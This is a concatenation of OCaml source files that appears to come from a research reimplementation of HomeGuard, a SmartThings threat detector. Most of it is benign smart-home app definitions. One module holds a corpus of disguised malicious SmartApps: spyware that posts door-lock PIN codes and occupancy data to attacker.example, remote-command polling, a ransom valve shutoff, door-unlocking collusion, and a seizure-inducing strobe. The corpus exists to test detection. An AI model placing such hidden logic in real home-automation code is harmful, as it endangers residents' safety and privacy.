  mainThermostat.setHeatingSetpoint(comfortTemp)
}
|}

let all =
  [
    bright_when_cloudy;
    hall_light_on_arrival;
    closet_light;
    night_path_dimmer;
    single_button_controller;
    thermostat_window_check;
    resume_heating;
    too_cold_valve;
    garage_left_open;
    shade_against_heat;
    workout_playlist;
    quiet_after_hours;
    seasonal_color;
    warm_white_evening;
    knock_to_photo;
    step_goal_celebration;
    sunrise_report;
    door_left_unlocked;
    laundry_done;
    curfew_mode;
    holiday_inflatables;
    everyone_sleeps_lock;
    pet_door_watch;
    dawn_chicken_coop;
    welcome_heat;
  ]
