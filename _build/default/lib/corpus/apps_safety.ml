(** Life-safety SmartApps: smoke, CO, leak and flood responders. *)

open App_entry

let smoke_alarm_lights =
  entry "SmokeAlarmLights" Safety 1
    {|
definition(name: "SmokeAlarmLights", description: "Turn on all lights and sound the siren when smoke is detected")

preferences {
  section("When smoke is detected...") {
    input "smokeSensor", "capability.smokeDetector", title: "Where?"
  }
  section("React with...") {
    input "escapeLights", "capability.switch", multiple: true, title: "Which lights?"
    input "fireSiren", "capability.alarm", title: "Which siren?"
  }
}

def installed() {
  subscribe(smokeSensor, "smoke.detected", smokeHandler)
}

def updated() {
  unsubscribe()
  subscribe(smokeSensor, "smoke.detected", smokeHandler)
}

def smokeHandler(evt) {
  escapeLights.on()
  fireSiren.siren()
}
|}

let co_response =
  entry "COResponse" Safety 1
    {|
definition(name: "COResponse", description: "Ventilate and warn when carbon monoxide is detected")

preferences {
  section("When CO is detected...") {
    input "coSensor", "capability.carbonMonoxideDetector", title: "Where?"
  }
  section("React with...") {
    input "ventFan", "capability.switch", title: "Ventilation fan"
    input "phone1", "phone", title: "Warn this phone"
  }
}

def installed() {
  subscribe(coSensor, "carbonMonoxide.detected", coHandler)
}

def updated() {
  unsubscribe()
  subscribe(coSensor, "carbonMonoxide.detected", coHandler)
}

def coHandler(evt) {
  ventFan.on()
  sendSmsMessage(phone1, "Carbon monoxide detected at home!")
}
|}

let leak_shutoff =
  entry "LeakShutoff" Safety 1
    {|
definition(name: "LeakShutoff", description: "Close the main water valve when a leak is sensed")

preferences {
  section("When water is sensed...") {
    input "leakSensor", "capability.waterSensor", title: "Where?"
  }
  section("Close this valve...") {
    input "mainValve", "capability.valve", title: "Which valve?"
  }
}

def installed() {
  subscribe(leakSensor, "water.wet", leakHandler)
}

def updated() {
  unsubscribe()
  subscribe(leakSensor, "water.wet", leakHandler)
}

def leakHandler(evt) {
  mainValve.close()
}
|}

let flood_light =
  entry "FloodLight" Safety 1
    {|
definition(name: "FloodLight", description: "Light up the basement when the sump area gets wet")

preferences {
  section("When water is sensed...") {
    input "sumpSensor", "capability.waterSensor", title: "Where?"
  }
  section("Turn on this light...") {
    input "basementLight", "capability.switch", title: "Which light?"
  }
}

def installed() {
  subscribe(sumpSensor, "water.wet", wetHandler)
}

def updated() {
  unsubscribe()
  subscribe(sumpSensor, "water.wet", wetHandler)
}

def wetHandler(evt) {
  basementLight.on()
}
|}

let dry_the_wet_spot =
  entry "DryTheWetSpot" Safety 2
    {|
definition(name: "DryTheWetSpot", description: "Run the sump pump outlet while the spot is wet")

preferences {
  section("When water is sensed...") {
    input "wetSensor", "capability.waterSensor", title: "Where?"
  }
  section("Run this pump outlet...") {
    input "pumpOutlet", "capability.switch", title: "Which outlet?"
  }
}

def installed() {
  subscribe(wetSensor, "water", waterHandler)
}

def updated() {
  unsubscribe()
  subscribe(wetSensor, "water", waterHandler)
}

def waterHandler(evt) {
  if (evt.value == "wet") {
    pumpOutlet.on()
  } else {
    if (evt.value == "dry") {
      pumpOutlet.off()
    }
  }
}
|}

let smoke_vent =
  entry "SmokeVent" Safety 1
    {|
definition(name: "SmokeVent", description: "Open the window openers to vent smoke")

preferences {
  section("When smoke is detected...") {
    input "smokeSensor", "capability.smokeDetector", title: "Where?"
  }
  section("Open these window openers...") {
    input "ventWindows", "capability.switch", multiple: true, title: "Which windows?"
  }
}

def installed() {
  subscribe(smokeSensor, "smoke.detected", smokeHandler)
}

def updated() {
  unsubscribe()
  subscribe(smokeSensor, "smoke.detected", smokeHandler)
}

def smokeHandler(evt) {
  ventWindows.on()
}
|}

let medicine_reminder =
  entry "MedicineReminder" Safety 1
    {|
definition(name: "MedicineReminder", description: "Flash the bedroom light at pill time")

preferences {
  section("Flash this light...") {
    input "bedroomLight", "capability.switch", title: "Which light?"
  }
}

def installed() {
  schedule("0 0 9 * * ?", remind)
}

def updated() {
  unschedule()
  schedule("0 0 9 * * ?", remind)
}

def remind() {
  bedroomLight.on()
  runIn(60, remindOff)
}

def remindOff() {
  bedroomLight.off()
}
|}

let freeze_protect =
  entry "FreezeProtect" Safety 1
    {|
definition(name: "FreezeProtect", description: "Run the space heater if the pipes risk freezing")

preferences {
  section("Monitor this temperature...") {
    input "pipeSensor", "capability.temperatureMeasurement", title: "Where?"
  }
  section("Run this heater...") {
    input "pipeHeater", "capability.switch", title: "Space heater"
  }
}

def installed() {
  subscribe(pipeSensor, "temperature", temperatureHandler)
}

def updated() {
  unsubscribe()
  subscribe(pipeSensor, "temperature", temperatureHandler)
}

def temperatureHandler(evt) {
  if (evt.integerValue < 35) {
    pipeHeater.on()
  }
}
|}

let siren_curfew =
  entry "SirenCurfew" Safety 1
    {|
definition(name: "SirenCurfew", description: "Silence any siren during sleeping hours")

preferences {
  section("Silence this siren...") {
    input "noisySiren", "capability.alarm", title: "Which siren?"
  }
}

def installed() {
  subscribe(noisySiren, "alarm", alarmHandler)
}

def updated() {
  unsubscribe()
  subscribe(noisySiren, "alarm", alarmHandler)
}

def alarmHandler(evt) {
  if ((evt.value == "siren") && (location.mode == "Night")) {
    noisySiren.off()
  }
}
|}

let all =
  [
    smoke_alarm_lights;
    co_response;
    leak_shutoff;
    flood_light;
    dry_the_wet_spot;
    smoke_vent;
    medicine_reminder;
    freeze_protect;
    siren_curfew;
  ]
