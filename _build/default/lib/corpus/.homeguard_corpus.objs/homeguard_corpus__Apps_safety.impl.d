lib/corpus/apps_safety.ml: App_entry
