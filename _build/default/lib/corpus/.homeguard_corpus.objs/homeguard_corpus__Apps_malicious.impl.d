lib/corpus/apps_malicious.ml: App_entry
