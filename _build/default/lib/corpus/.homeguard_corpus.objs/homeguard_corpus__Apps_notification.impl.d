lib/corpus/apps_notification.ml: App_entry Printf
