lib/corpus/apps_webservice.ml: App_entry
