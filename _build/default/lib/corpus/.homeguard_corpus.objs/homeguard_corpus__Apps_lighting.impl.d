lib/corpus/apps_lighting.ml: App_entry
