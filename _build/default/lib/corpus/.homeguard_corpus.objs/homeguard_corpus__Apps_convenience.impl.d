lib/corpus/apps_convenience.ml: App_entry
