lib/corpus/corpus.mli: App_entry
