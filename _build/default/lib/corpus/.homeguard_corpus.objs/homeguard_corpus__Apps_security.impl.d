lib/corpus/apps_security.ml: App_entry
