lib/corpus/apps_extra.ml: App_entry
