lib/corpus/apps_energy.ml: App_entry
