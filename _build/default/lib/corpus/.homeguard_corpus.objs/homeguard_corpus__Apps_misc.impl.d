lib/corpus/apps_misc.ml: App_entry
