lib/corpus/apps_demo.ml: App_entry
