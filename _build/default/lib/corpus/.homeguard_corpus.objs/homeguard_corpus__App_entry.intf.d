lib/corpus/app_entry.mli:
