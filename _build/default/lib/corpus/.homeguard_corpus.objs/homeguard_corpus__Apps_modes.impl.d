lib/corpus/apps_modes.ml: App_entry
