lib/corpus/app_entry.ml:
