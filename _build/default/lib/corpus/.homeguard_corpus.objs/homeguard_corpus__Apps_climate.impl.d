lib/corpus/apps_climate.ml: App_entry
