(** Convenience SmartApps, including the paper's three extraction
    special cases: Feed My Pet ([device.petfeedershield] instead of a
    capability), Sleepy Time ([device.jawboneUser]) and Camera Power
    Scheduler (the undocumented [runDaily] API) — all of §VIII-B. *)

open App_entry

let feed_my_pet =
  entry "FeedMyPet" Convenience 1
    {|
definition(name: "FeedMyPet", description: "Feed your pet on a schedule")

preferences {
  section("Feed my pet at...") {
    input "feedTime", "time", title: "When?"
  }
  section("Which feeder...") {
    input "feeder", "device.petfeedershield", title: "Pet feeder"
  }
}

def installed() {
  schedule("0 0 8 * * ?", scheduledFeed)
}

def updated() {
  unschedule()
  schedule("0 0 8 * * ?", scheduledFeed)
}

def scheduledFeed() {
  feeder.feed()
}
|}

let sleepy_time =
  entry "SleepyTime" Convenience 2
    {|
definition(name: "SleepyTime", description: "Change the mode when your Jawbone UP signals sleep")

preferences {
  section("Which Jawbone...") {
    input "jawbone", "device.jawboneUser", title: "Jawbone UP"
  }
}

def installed() {
  subscribe(jawbone, "sleeping", sleepHandler)
}

def updated() {
  unsubscribe()
  subscribe(jawbone, "sleeping", sleepHandler)
}

def sleepHandler(evt) {
  if (evt.value == "sleeping") {
    setLocationMode("Night")
  } else {
    setLocationMode("Home")
  }
}
|}

let camera_power_scheduler =
  entry "CameraPowerScheduler" Convenience 2
    {|
definition(name: "CameraPowerScheduler", description: "Power the camera outlet on and off on a daily schedule")

preferences {
  section("Camera outlet...") {
    input "cameraOutlet", "capability.switch", title: "Which camera outlet?"
  }
}

def installed() {
  runDaily("09:00", cameraOn)
  runDaily("18:00", cameraOff)
}

def updated() {
  unschedule()
  runDaily("09:00", cameraOn)
  runDaily("18:00", cameraOff)
}

def cameraOn() {
  cameraOutlet.on()
}

def cameraOff() {
  cameraOutlet.off()
}
|}

let coffee_after_shower =
  entry "CoffeeAfterShower" Convenience 1
    {|
definition(name: "CoffeeAfterShower", description: "Start the coffee maker when the bathroom gets steamy")

preferences {
  section("Monitor bathroom humidity...") {
    input "bathroomHumidity", "capability.relativeHumidityMeasurement", title: "Where?"
    input "steamLimit", "number", title: "Steamy above?"
  }
  section("Start this coffee maker...") {
    input "coffeeMaker", "capability.switch", title: "Coffee maker"
  }
}

def installed() {
  subscribe(bathroomHumidity, "humidity", humidityHandler)
}

def updated() {
  unsubscribe()
  subscribe(bathroomHumidity, "humidity", humidityHandler)
}

def humidityHandler(evt) {
  if (evt.integerValue > steamLimit) {
    coffeeMaker.on()
  }
}
|}

let the_big_switch =
  entry "TheBigSwitch" Convenience 2
    {|
definition(name: "TheBigSwitch", description: "One master switch controls a whole group")

preferences {
  section("When this master switch changes...") {
    input "masterSwitch", "capability.switch", title: "Master"
  }
  section("Control these switches...") {
    input "groupSwitches", "capability.switch", multiple: true, title: "Group"
  }
}

def installed() {
  subscribe(masterSwitch, "switch", masterHandler)
}

def updated() {
  unsubscribe()
  subscribe(masterSwitch, "switch", masterHandler)
}

def masterHandler(evt) {
  if (evt.value == "on") {
    groupSwitches.on()
  } else {
    if (evt.value == "off") {
      groupSwitches.off()
    }
  }
}
|}

let honey_im_home =
  entry "HoneyImHome" Convenience 1
    {|
definition(name: "HoneyImHome", description: "Play a welcome message when someone arrives")

preferences {
  section("When someone arrives...") {
    input "familyPresence", "capability.presenceSensor", title: "Who?"
  }
  section("Play on this speaker...") {
    input "hallSpeaker", "capability.musicPlayer", title: "Which speaker?"
  }
}

def installed() {
  subscribe(familyPresence, "presence.present", arrivalHandler)
}

def updated() {
  unsubscribe()
  subscribe(familyPresence, "presence.present", arrivalHandler)
}

def arrivalHandler(evt) {
  hallSpeaker.playText("Welcome home!")
}
|}

let good_morning_coffee =
  entry "GoodMorningCoffee" Convenience 1
    {|
definition(name: "GoodMorningCoffee", description: "Brew coffee every weekday morning")

preferences {
  section("Start this coffee maker...") {
    input "coffeeMaker", "capability.switch", title: "Coffee maker"
  }
}

def installed() {
  schedule("0 0 7 * * ?", brew)
}

def updated() {
  unschedule()
  schedule("0 0 7 * * ?", brew)
}

def brew() {
  coffeeMaker.on()
}
|}

let media_controller =
  entry "MediaController" Convenience 1
    {|
definition(name: "MediaController", description: "One tap starts movie night: TV on, speakers playing")

preferences {
  section("Gear...") {
    input "theaterTv", "capability.switch", title: "Which TV?"
    input "soundbar", "capability.musicPlayer", title: "Which speaker?"
  }
}

def installed() {
  subscribe(app, "appTouch", showtimeHandler)
}

def updated() {
  unsubscribe()
  subscribe(app, "appTouch", showtimeHandler)
}

def showtimeHandler(evt) {
  theaterTv.on()
  soundbar.play()
}
|}

let smart_alarm_clock =
  entry "SmartAlarmClock" Convenience 1
    {|
definition(name: "SmartAlarmClock", description: "Wake up to music and morning light")

preferences {
  section("Wake-up gear...") {
    input "wakeSpeaker", "capability.musicPlayer", title: "Which speaker?"
    input "curtainShade", "capability.windowShade", title: "Which curtain?"
  }
}

def installed() {
  schedule("0 45 6 * * ?", wakeUp)
}

def updated() {
  unschedule()
  schedule("0 45 6 * * ?", wakeUp)
}

def wakeUp() {
  wakeSpeaker.play()
  curtainShade.open()
}
|}

let curtain_by_daylight =
  entry "CurtainByDaylight" Convenience 2
    {|
definition(name: "CurtainByDaylight", description: "Open the curtain when it is bright outside, close it when dark")

preferences {
  section("Monitor the luminosity...") {
    input "outdoorLux", "capability.illuminanceMeasurement", title: "Where?"
  }
  section("Control this curtain...") {
    input "curtainShade", "capability.windowShade", title: "Which curtain?"
  }
}

def installed() {
  subscribe(outdoorLux, "illuminance", luxHandler)
}

def updated() {
  unsubscribe()
  subscribe(outdoorLux, "illuminance", luxHandler)
}

def luxHandler(evt) {
  def lux = evt.integerValue
  if (lux > 400) {
    curtainShade.open()
  } else {
    if (lux < 100) {
      curtainShade.close()
    }
  }
}
|}

let pause_music_on_call =
  entry "PauseMusicOnCall" Convenience 1
    {|
definition(name: "PauseMusicOnCall", description: "Pause the speakers when the doorbell button is pressed, resume later")

preferences {
  section("Doorbell button...") {
    input "doorbell", "capability.button", title: "Which button?"
  }
  section("Pause these speakers...") {
    input "speakers", "capability.musicPlayer", multiple: true, title: "Which speakers?"
  }
}

def installed() {
  subscribe(doorbell, "button", buttonHandler)
}

def updated() {
  unsubscribe()
  subscribe(doorbell, "button", buttonHandler)
}

def buttonHandler(evt) {
  if (evt.value == "pushed") {
    speakers.pause()
    runIn(120, resumeMusic)
  }
}

def resumeMusic() {
  speakers.play()
}
|}

let back_door_watch =
  entry "BackDoorWatch" Convenience 1
    {|
definition(name: "BackDoorWatch", description: "Snap a photo whenever the back door opens")

preferences {
  section("Watch this door...") {
    input "backDoor", "capability.contactSensor", title: "Which contact?"
  }
  section("Use this camera...") {
    input "backCamera", "capability.imageCapture", title: "Which camera?"
  }
}

def installed() {
  subscribe(backDoor, "contact.open", doorHandler)
}

def updated() {
  unsubscribe()
  subscribe(backDoor, "contact.open", doorHandler)
}

def doorHandler(evt) {
  backCamera.take()
}
|}

let walk_the_dog =
  entry "WalkTheDog" Convenience 1
    {|
definition(name: "WalkTheDog", description: "Remind me to walk the dog by beeping at a fixed time")

preferences {
  section("Beep this device...") {
    input "beeper", "capability.tone", title: "Which beeper?"
  }
}

def installed() {
  schedule("0 0 18 * * ?", walkReminder)
}

def updated() {
  unschedule()
  schedule("0 0 18 * * ?", walkReminder)
}

def walkReminder() {
  beeper.beep()
}
|}

let occupancy_simulator =
  entry "OccupancySimulator" Convenience 1
    {|
definition(name: "OccupancySimulator", description: "Cycle the radio on and off while nobody is home")

preferences {
  section("Cycle this radio outlet...") {
    input "radioOutlet", "capability.switch", title: "Which outlet?"
  }
}

def installed() {
  runEvery1Hour(radioCycle)
}

def updated() {
  unschedule()
  runEvery1Hour(radioCycle)
}

def radioCycle() {
  if (location.mode == "Away") {
    radioOutlet.on()
    runIn(900, radioOff)
  }
}

def radioOff() {
  radioOutlet.off()
}
|}

let sunrise_curtain =
  entry "SunriseCurtain" Convenience 1
    {|
definition(name: "SunriseCurtain", description: "Open the bedroom curtain at sunrise")

preferences {
  section("Open this curtain...") {
    input "bedroomCurtain", "capability.windowShade", title: "Which curtain?"
  }
}

def installed() {
  subscribe(location, "sunrise", sunriseHandler)
}

def updated() {
  unsubscribe()
  subscribe(location, "sunrise", sunriseHandler)
}

def sunriseHandler(evt) {
  bedroomCurtain.open()
}
|}

let all =
  [
    feed_my_pet;
    sleepy_time;
    camera_power_scheduler;
    coffee_after_shower;
    the_big_switch;
    honey_im_home;
    good_morning_coffee;
    media_controller;
    smart_alarm_clock;
    curtain_by_daylight;
    pause_music_on_call;
    back_door_watch;
    walk_the_dog;
    occupancy_simulator;
    sunrise_curtain;
  ]
