(** The malicious SmartApps of Table III, reconstructed from the attack
    literature the paper collects them from ([22], [29], [46], [47]).
    Each looks useful but hides malicious logic; the rule extractor is
    expected to recover precise rules for all classes except endpoint
    attacks (rules live outside the app) and app-update attacks
    (invisible statically). *)

open App_entry

let creating_seizures =
  entry "CreatingSeizuresUsingStrobedLight" (Malicious Malicious_control) 1
    {|
definition(name: "CreatingSeizuresUsingStrobedLight", description: "Romantic light dimming for dinner time")

preferences {
  section("Dim these lights...") {
    input "dinnerLights", "capability.switch", multiple: true, title: "Which lights?"
  }
}

def installed() {
  subscribe(dinnerLights, "switch.on", dinnerTime)
}

def updated() {
  unsubscribe()
  subscribe(dinnerLights, "switch.on", dinnerTime)
}

def dinnerTime(evt) {
  // hidden: strobe the lights at seizure-inducing frequency
  dinnerLights.off()
  runIn(1, strobeOn)
}

def strobeOn() {
  dinnerLights.on()
  runIn(1, strobeOff)
}

def strobeOff() {
  dinnerLights.off()
}
|}

let shiqi_battery_monitor =
  entry "shiqiBatteryMonitor" (Malicious Abusing_permission) 1
    {|
definition(name: "shiqiBatteryMonitor", description: "Monitor the battery of your door lock")

preferences {
  section("Monitor this lock...") {
    input "monitoredLock", "capability.lock", title: "Which lock?"
  }
}

def installed() {
  subscribe(monitoredLock, "battery", batteryHandler)
}

def updated() {
  unsubscribe()
  subscribe(monitoredLock, "battery", batteryHandler)
}

def batteryHandler(evt) {
  if (evt.integerValue < 20) {
    sendPush("Lock battery low")
    // hidden: the granted lock capability is abused to unlock
    monitoredLock.unlock()
  }
}
|}

let hello_home_adware =
  entry ~controls_devices:false "HelloHomeAdware" (Malicious Adware) 1
    {|
definition(name: "HelloHomeAdware", description: "Greets you when you come home")

preferences {
  section("When I arrive...") {
    input "mePresence", "capability.presenceSensor", title: "Whose sensor?"
  }
}

def installed() {
  subscribe(mePresence, "presence.present", welcomeHandler)
}

def updated() {
  unsubscribe()
  subscribe(mePresence, "presence.present", welcomeHandler)
}

def welcomeHandler(evt) {
  // ad embedded into every notification message
  sendPush("Welcome home! -- SALE at www.evil-deals.example 50% off!!")
}
|}

let co_detector_adware =
  entry ~controls_devices:false "CODetectorAdware" (Malicious Adware) 1
    {|
definition(name: "CODetectorAdware", description: "Carbon monoxide alerts")

preferences {
  section("Watch this detector...") {
    input "coSensor", "capability.carbonMonoxideDetector", title: "Where?"
  }
}

def installed() {
  subscribe(coSensor, "carbonMonoxide.detected", coHandler)
}

def updated() {
  unsubscribe()
  subscribe(coSensor, "carbonMonoxide.detected", coHandler)
}

def coHandler(evt) {
  sendPush("CO detected! Buy detectors cheap at www.evil-deals.example")
}
|}

let lock_manager_spyware =
  entry "LockManagerSpyware" (Malicious Spyware) 2
    {|
definition(name: "LockManagerSpyware", description: "Manage your door lock codes with ease")

preferences {
  section("Manage this lock...") {
    input "managedLock", "capability.lock", title: "Which lock?"
  }
}

def installed() {
  subscribe(managedLock, "codeReport", codeHandler)
  subscribe(managedLock, "lock", lockHandler)
}

def updated() {
  unsubscribe()
  subscribe(managedLock, "codeReport", codeHandler)
  subscribe(managedLock, "lock", lockHandler)
}

def codeHandler(evt) {
  // hidden: leak every lock code to the attacker's server
  httpPost("http://attacker.example/codes", "code=${evt.value}")
}

def lockHandler(evt) {
  if (evt.value == "unlocked") {
    httpPost("http://attacker.example/usage", "unlocked")
  }
}
|}

let shiqi_light_controller =
  entry "shiqiLightController" (Malicious Spyware) 2
    {|
definition(name: "shiqiLightController", description: "Light control with usage statistics")

preferences {
  section("Control this light...") {
    input "bedLight", "capability.switch", title: "Which light?"
    input "bedMotion", "capability.motionSensor", title: "Motion sensor"
  }
}

def installed() {
  subscribe(bedMotion, "motion", motionHandler)
}

def updated() {
  unsubscribe()
  subscribe(bedMotion, "motion", motionHandler)
}

def motionHandler(evt) {
  if (evt.value == "active") {
    bedLight.on()
    // hidden: occupancy pattern exfiltration via side channel
    httpGet("http://attacker.example/beacon?state=active")
  } else {
    bedLight.off()
    httpGet("http://attacker.example/beacon?state=inactive")
  }
}
|}

let pin_code_snooping =
  entry ~controls_devices:false "DoorLockPinCodeSnooping" (Malicious Spyware) 1
    {|
definition(name: "DoorLockPinCodeSnooping", description: "Lock event logger for your records")

preferences {
  section("Log this lock...") {
    input "loggedLock", "capability.lock", title: "Which lock?"
  }
}

def installed() {
  subscribe(loggedLock, "codeReport", snoopHandler)
}

def updated() {
  unsubscribe()
  subscribe(loggedLock, "codeReport", snoopHandler)
}

def snoopHandler(evt) {
  httpPostJson("http://attacker.example/pins", "pin=${evt.value}")
}
|}

let water_valve_ransom =
  entry "WaterValveRansom" (Malicious Ransomware) 1
    {|
definition(name: "WaterValveRansom", description: "Protect your home from leaks")

preferences {
  section("Protect with this valve...") {
    input "mainValve", "capability.valve", title: "Which valve?"
    input "phone1", "phone", title: "Your phone"
  }
}

def installed() {
  subscribe(location, "mode", modeHandler)
}

def updated() {
  unsubscribe()
  subscribe(location, "mode", modeHandler)
}

def modeHandler(evt) {
  if (evt.value == "Away") {
    // hidden: hold the water supply hostage while the victim is away
    mainValve.close()
    sendSmsMessage(phone1, "Your water is shut off. Pay 1 BTC to restore.")
  }
}
|}

let smoke_detector_remote =
  entry "SmokeDetectorRemote" (Malicious Remote_control) 3
    {|
definition(name: "SmokeDetectorRemote", description: "Smart smoke responses, cloud enhanced")

preferences {
  section("When smoke is detected...") {
    input "smokeSensor", "capability.smokeDetector", title: "Where?"
    input "houseSwitches", "capability.switch", multiple: true, title: "React with switches"
  }
}

def installed() {
  subscribe(smokeSensor, "smoke", smokeHandler)
}

def updated() {
  unsubscribe()
  subscribe(smokeSensor, "smoke", smokeHandler)
}

def smokeHandler(evt) {
  // hidden: command fetched from the attacker's server at runtime
  httpGet("http://attacker.example/cmd") { resp ->
    def cmd = resp.data
    switch (cmd) {
      case "on":
        houseSwitches.on()
        break
      case "off":
        houseSwitches.off()
        break
    }
  }
}
|}

let fire_alarm_remote =
  entry "FireAlarmRemote" (Malicious Remote_control) 3
    {|
definition(name: "FireAlarmRemote", description: "Cloud-connected fire alarm")

preferences {
  section("Alarm...") {
    input "fireSiren", "capability.alarm", title: "Which alarm?"
  }
}

def installed() {
  runEvery15Minutes(pollServer)
}

def updated() {
  unschedule()
  runEvery15Minutes(pollServer)
}

def pollServer() {
  httpGet("http://attacker.example/alarmcmd") { resp ->
    def cmd = resp.data
    switch (cmd) {
      case "siren":
        fireSiren.siren()
        break
      case "off":
        fireSiren.off()
        break
    }
  }
}
|}

let malicious_camera_ipc =
  entry "MaliciousCameraIPC" (Malicious Ipc_collusion) 1
    {|
definition(name: "MaliciousCameraIPC", description: "Snapshot camera on motion")

preferences {
  section("Camera gear...") {
    input "spyCamera", "capability.imageCapture", title: "Which camera?"
    input "hallMotion", "capability.motionSensor", title: "Motion sensor"
  }
}

def installed() {
  subscribe(hallMotion, "motion.active", motionHandler)
}

def updated() {
  unsubscribe()
  subscribe(hallMotion, "motion.active", motionHandler)
}

def motionHandler(evt) {
  spyCamera.take()
  // hidden: signal the collusive partner app through shared state
  state.signal = "occupied"
}
|}

let presence_sensor_ipc =
  entry "PresenceSensorIPC" (Malicious Ipc_collusion) 1
    {|
definition(name: "PresenceSensorIPC", description: "Presence-based door convenience")

preferences {
  section("Door gear...") {
    input "frontLock", "capability.lock", title: "Which lock?"
    input "owner", "capability.presenceSensor", title: "Owner sensor"
  }
}

def installed() {
  subscribe(owner, "presence", presenceHandler)
}

def updated() {
  unsubscribe()
  subscribe(owner, "presence", presenceHandler)
}

def presenceHandler(evt) {
  // hidden: collusion channel - act on the partner app's signal
  if (state.signal == "occupied") {
    frontLock.unlock()
  }
}
|}

let auto_camera2 =
  entry ~controls_devices:false "AutoCamera2" (Malicious Shadow_payload) 1
    {|
definition(name: "AutoCamera2", description: "Automatic photo backups")

preferences {
  section("Back up this camera...") {
    input "homeCamera", "capability.imageCapture", title: "Which camera?"
  }
}

def installed() {
  subscribe(homeCamera, "image", imageHandler)
}

def updated() {
  unsubscribe()
  subscribe(homeCamera, "image", imageHandler)
}

def imageHandler(evt) {
  // hidden: ship every photo to an innocuous-looking encrypted URL
  httpPost("https://cdn.example/u/aGlkZGVuX2VuZHBvaW50", "img=${evt.value}")
}
|}

let baby_monitor_leaker =
  entry ~controls_devices:false "BabyMonitorLeaker" (Malicious Spyware) 1
    {|
definition(name: "BabyMonitorLeaker", description: "Nursery sound level monitor")

preferences {
  section("Monitor this sensor...") {
    input "nurseryMic", "capability.soundPressureLevel", title: "Which sensor?"
  }
}

def installed() {
  subscribe(nurseryMic, "soundPressureLevel", soundHandler)
}

def updated() {
  unsubscribe()
  subscribe(nurseryMic, "soundPressureLevel", soundHandler)
}

def soundHandler(evt) {
  httpPost("http://attacker.example/audio", "level=${evt.value}")
}
|}

let backdoor_pin_injection =
  entry ~controls_devices:false "BackdoorPinCodeInjection" (Malicious Endpoint_attack) (-1)
    {|
definition(name: "BackdoorPinCodeInjection", description: "Remote lock code management")

preferences {
  section("Manage this lock...") {
    input "managedLock", "capability.lock", title: "Which lock?"
  }
}

mappings {
  path("/setcode") {
    action: [POST: "injectCode"]
  }
}

def installed() {
}

def updated() {
}

def injectCode() {
  // the automation is driven entirely by external HTTP requests
  managedLock.unlock()
}
|}

let disabling_vacation_mode =
  entry ~controls_devices:false "DisablingVacationMode" (Malicious Endpoint_attack) (-1)
    {|
definition(name: "DisablingVacationMode", description: "Mode dashboard endpoint")

preferences {
  section("No devices needed") {
    paragraph "Exposes mode control"
  }
}

mappings {
  path("/mode") {
    action: [POST: "setMode"]
  }
}

def installed() {
}

def updated() {
}

def setMode() {
  setLocationMode("Home")
}
|}

let bon_voyage_repackaging =
  entry "BonVoyageRepackaging" (Malicious App_update) 1
    {|
definition(name: "BonVoyageRepackaging", description: "Set Away mode when everyone leaves")

preferences {
  section("When this person leaves...") {
    input "traveler", "capability.presenceSensor", title: "Who?"
  }
}

def installed() {
  subscribe(traveler, "presence.not present", departedHandler)
}

def updated() {
  unsubscribe()
  subscribe(traveler, "presence.not present", departedHandler)
}

def departedHandler(evt) {
  // statically identical to the benign app; the attack arrives later
  // through a silent cloud-side code update
  setLocationMode("Away")
}
|}

let powers_out_alert =
  entry ~controls_devices:false "PowersOutAlert" (Malicious App_update) 1
    {|
definition(name: "PowersOutAlert", description: "Alert when power fails")

preferences {
  section("Monitor this meter...") {
    input "meter", "capability.powerMeter", title: "Which meter?"
    input "phone1", "phone", title: "Phone number?"
  }
}

def installed() {
  subscribe(meter, "power", powerHandler)
}

def updated() {
  unsubscribe()
  subscribe(meter, "power", powerHandler)
}

def powerHandler(evt) {
  // benign at review time; malicious behaviour shipped via app update
  if (evt.integerValue < 5) {
    sendSmsMessage(phone1, "Power appears to be out")
  }
}
|}

let all =
  [
    creating_seizures;
    shiqi_battery_monitor;
    hello_home_adware;
    co_detector_adware;
    lock_manager_spyware;
    shiqi_light_controller;
    pin_code_snooping;
    water_valve_ransom;
    smoke_detector_remote;
    fire_alarm_remote;
    malicious_camera_ipc;
    presence_sensor_ipc;
    auto_camera2;
    baby_monitor_leaker;
    backdoor_pin_injection;
    disabling_vacation_mode;
    bon_voyage_repackaging;
    powers_out_alert;
  ]

(** Can the static rule extractor recover the app's (malicious)
    automation? Endpoint attacks define rules outside the app; app-update
    attacks are invisible statically (Table III's two ✗ rows). *)
let statically_analyzable (e : App_entry.t) =
  match e.App_entry.category with
  | Malicious (Endpoint_attack | App_update) -> false
  | _ -> true
