(** HomeGuard: the public facade tying the pipeline together.

    Offline: {!extract} turns SmartApp source into rules (backend-server
    role). Online: a {!home} receives instrumented-app configuration over
    the messaging channel, detects CAI threats against installed apps and
    walks the user through the one-time decision (phone-app role). *)

module Groovy = Homeguard_groovy
module St = Homeguard_st
module Solver = Homeguard_solver
module Rules = Homeguard_rules
module Symexec = Homeguard_symexec
module Detector_lib = Homeguard_detector
module Sim = Homeguard_sim
module Config = Homeguard_config
module Frontend = Homeguard_frontend

let version = "1.0.0"

(** Extract rules from SmartApp source (the rule-extractor service). *)
let extract ?name src = Homeguard_symexec.Extract.extract_source ?name src

(** A deployed home: recorder + rule database + allowed list. *)
type home = {
  recorder : Homeguard_config.Recorder.t;
  flow : Homeguard_frontend.Install_flow.t;
  messaging : Homeguard_config.Messaging.t;
}

let create_home ?(transport_seed = 7) () =
  let recorder = Homeguard_config.Recorder.create () in
  {
    recorder;
    flow =
      Homeguard_frontend.Install_flow.create
        ~detector_config:(Homeguard_config.Recorder.detector_config recorder) ();
    messaging = Homeguard_config.Messaging.create ~seed:transport_seed ();
  }

(** Full install pipeline for one app: instrumented configuration is
    shipped over [transport], recorded, and threats are detected against
    the already-installed apps. Returns the user-facing report and the
    observed messaging latency in milliseconds. *)
let begin_install home ?(transport = Homeguard_config.Messaging.Sms)
    ~(app : Homeguard_rules.Rule.smartapp) ~device_bindings ~value_bindings () =
  let uri =
    Homeguard_config.Instrument.collected_uri ~app_name:app.Homeguard_rules.Rule.name
      ~device_bindings
      ~value_bindings:(List.map (fun (v, s) -> (v, s)) value_bindings)
  in
  let latency = Homeguard_config.Messaging.send home.messaging transport uri in
  (match latency with
  | Some _ ->
    Homeguard_config.Recorder.record_uri home.recorder (Homeguard_config.Config_uri.decode uri)
  | None -> ());
  let report = Homeguard_frontend.Install_flow.propose home.flow app in
  (report, latency)

let decide home decision = Homeguard_frontend.Install_flow.decide home.flow decision

let installed home = Homeguard_frontend.Install_flow.installed_apps home.flow

(** Backward compatibility (paper §VIII-D3): retrofit a home whose apps
    predate HomeGuard. Reinstalling the instrumented versions re-runs
